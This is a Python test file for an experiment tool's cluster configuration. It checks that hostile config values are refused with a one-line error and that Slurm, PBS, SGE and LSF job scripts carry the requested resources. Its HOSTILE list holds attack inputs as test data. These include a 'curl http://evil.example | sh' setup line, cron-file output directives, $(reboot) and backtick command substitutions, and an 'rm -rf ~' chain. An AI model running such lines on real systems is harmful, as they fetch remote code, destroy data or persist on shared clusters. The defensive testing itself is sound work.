"""The ``[cluster]`` section is data from the file's author: hostile values are refused with one line
naming the file and key, beside valid twins; the job scripts dask-jobqueue writes for PBS, SGE, LSF and
Slurm carry the resources asked for."""

from __future__ import annotations

import pytest
from agentos.errors import ConfigError, UsageError
from agentos.experiments import job_script, read_experiment
from agentos.experiments._cluster_options import check
from experiments.helpers import agentos

EXPERIMENT = "[experiment]\nagents = [random]\nenvironments = [corridor]\nepisodes = 2\n\n[cluster]\n"

HOSTILE = [
    ("cores = 1000000000", "cores must be an integer from 1 to 256"),
    ("cores = 0", "cores must be an integer"),
    ("memory = -1GB", "memory must be a size"),
    ("memory = 100TB", "memory must be a size"),
    ("walltime = 99999:00:00", "walltime must be"),
    ("walltime = 00:00:00", "walltime must be"),
    ("max-jobs = 100000", "max-jobs must be"),
    ("partition = short -o /etc/cron.d/x", "partition must be a plain name"),
    ("directives = [--output=/etc/cron.d/evil]", "directive '--output=/etc/cron.d/evil' is not allowed"),
    ("directives = [--chdir=/tmp]", "directive '--chdir=/tmp' is not allowed"),
    ("directives = [--qos=$(reboot)]", "directive '--qos=$(reboot)' is not allowed"),
    ("directives = [--comment=`id`]", "directive '--comment=`id`' is not allowed"),
    ("setup = curl http://evil.example | sh", "setup line 'curl http://evil.example | sh' is not allowed in a file"),
    ("setup = [source /opt/rl/bin/activate && rm -rf ~]", "is not allowed in a file"),
    ("setup = [export PATH=$(id)]", "is not allowed in a file"),
    ("python = /usr/bin/python3 -c evil", "python must be a plain path"),
    ("venv = ../../other/venv", "venv must be a plain path"),
    ("interface = lo; reboot", "interface must be"),
    ("shebang = /tmp/evil", "unknown key 'shebang' in [cluster]"),
]
VALID = [
    "cores = 4", "memory = 4GB", "memory = 512MiB", "walltime = 01:00:00", "walltime = 2-12:30", "max-jobs = 20",
    "partition = short", "account = my-lab", "directives = [--qos=normal, --gres=gpu:1, -l select=1:ngpus=1]",
    "setup = [module load python/3.12, source /opt/rl/bin/activate, export OMP_NUM_THREADS=1]",
    "setup = conda activate rl", "python = /usr/bin/python3", "venv = ~/envs/rl", "interface = ib0",
]


@pytest.mark.parametrize(("line", "message"), HOSTILE)
def test_a_hostile_cluster_key_is_refused_naming_the_file_and_line(write_experiment, line, message):
    path = write_experiment(EXPERIMENT + line + "\n")
    with pytest.raises(ConfigError) as caught:
        read_experiment(str(path))
    assert str(caught.value).startswith(f"{path}:7: [cluster] ") and message in str(caught.value), caught.value


@pytest.mark.parametrize("line", VALID)
def test_its_valid_twin_is_read(write_experiment, line):
    options = read_experiment(str(write_experiment(EXPERIMENT + line + "\n")))
    key = line.split("=", 1)[0].strip()
    assert key in options["cluster_options"], options


def test_the_command_says_one_line_and_submits_nothing(write_experiment, tmp_path):
    path = write_experiment(EXPERIMENT + "directives = [--output=/etc/cron.d/evil]\n")
    done = agentos("experiment", "run", str(path), "--cluster", "slurm", cwd=tmp_path)
    assert done.returncode != 0 and "Traceback" not in done.stderr, done.stderr
    assert len(done.stderr.strip().splitlines()) == 1 and f"{path}:7:" in done.stderr, done.stderr
    assert not (tmp_path / "experiments" / "sweep").exists()  # refused before anything was written


def test_an_absurd_command_line_resource_is_one_line_before_anything_is_written(write_experiment, tmp_path):
    path = write_experiment(EXPERIMENT + "cores = 2\n")  # the valid twin: the file's own value
    done = agentos("experiment", "run", str(path), "--cluster", "slurm", "--walltime", "99999:00:00", cwd=tmp_path)
    assert done.returncode != 0 and "Traceback" not in done.stderr, done.stderr
    assert len(done.stderr.strip().splitlines()) == 1 and "walltime must be" in done.stderr, done.stderr
    assert not (tmp_path / "experiments" / "sweep").exists()


def test_the_users_own_setup_line_may_be_any_single_line():
    assert check({"setup": ["source ~/rl/bin/activate && cd $HOME/work"]}, own=True)["setup"]
    with pytest.raises(UsageError, match="one non-empty line"):
        check({"setup": ["source a\nrm -rf ~"]}, own=True)
    with pytest.raises(UsageError, match="cores must be"):  # the user's numbers are bounded too
        check({"cores": 10**9}, own=True)


RESOURCES = {"partition": "short", "account": "lab", "cores": 2, "memory": "4GB", "walltime": "02:00:00",
             "directives": ["--qos=normal"], "setup": ["module load python/3.12"], "interface": "lo"}


@pytest.mark.parametrize(("system", "expected"), [
    ("slurm", ["#SBATCH -p short", "#SBATCH -A lab", "#SBATCH --cpus-per-task=2", "#SBATCH --mem=4G",
               "#SBATCH -t 02:00:00", "#SBATCH --qos=normal"]),
    ("pbs", ["#PBS -q short", "#PBS -A lab", "#PBS -l select=1:ncpus=2:mem=", "#PBS -l walltime=02:00:00",
             "#PBS --qos=normal"]),
    ("sge", ["#$ -q short", "#$ -P lab", "#$ -l h_rt=02:00:00", "#$ --qos=normal"]),
    ("lsf", ["#BSUB -q short", '#BSUB -P "lab"', "#BSUB -n 2", "#BSUB -W 02:00", "#BSUB --qos=normal"]),
])
def test_the_job_script_of_each_batch_system_carries_the_resources(tmp_path, system, expected):
    script = job_script(system, RESOURCES, folder=str(tmp_path))
    lines = script.splitlines()
    for line in expected:
        assert any(x.startswith(line) for x in lines), (line, script)
    prologue = lines.index("export DASK_DISTRIBUTED__WORKER__DAEMON=False")
    assert lines[prologue + 2] == "module load python/3.12"  # the setup line, before the worker starts
    worker = lines[prologue + 3]
    assert " -m distributed.cli.dask_worker tls://127.0.0.1:" in worker and "--nthreads 2" in worker
    assert "--tls-key " in worker and f"{tmp_path}/.jobs/" in worker  # only the jobs hold the key


def test_an_unknown_system_is_one_line():
    with pytest.raises(UsageError, match="--cluster must be one of slurm, pbs, sge, lsf"):
        job_script("condor")


def test_ctrl_c_stays_a_keyboard_interrupt_after_dask_jobqueue_is_imported(tmp_path):
    import subprocess
    import sys

    # dask-jobqueue's runner module sets SIGINT to sys.exit() when imported (the plain import shows it);
    # imported for --cluster, Ctrl-C stays a KeyboardInterrupt (the experiment then cancels its jobs)
    check = ("import signal\nbefore = signal.getsignal(signal.SIGINT)\n{}\n"
             "print(signal.getsignal(signal.SIGINT) is before)")
    for imports, expected in (("import dask_jobqueue", "False"),
                              ("from agentos.experiments._jobqueue import _cluster_class\n_cluster_class('slurm')",
                               "True")):
        done = subprocess.run([sys.executable, "-c", check.format(imports)], capture_output=True, text=True,
                              timeout=120, cwd=tmp_path)
        assert done.stdout.strip() == expected, (imports, done.stdout, done.stderr)
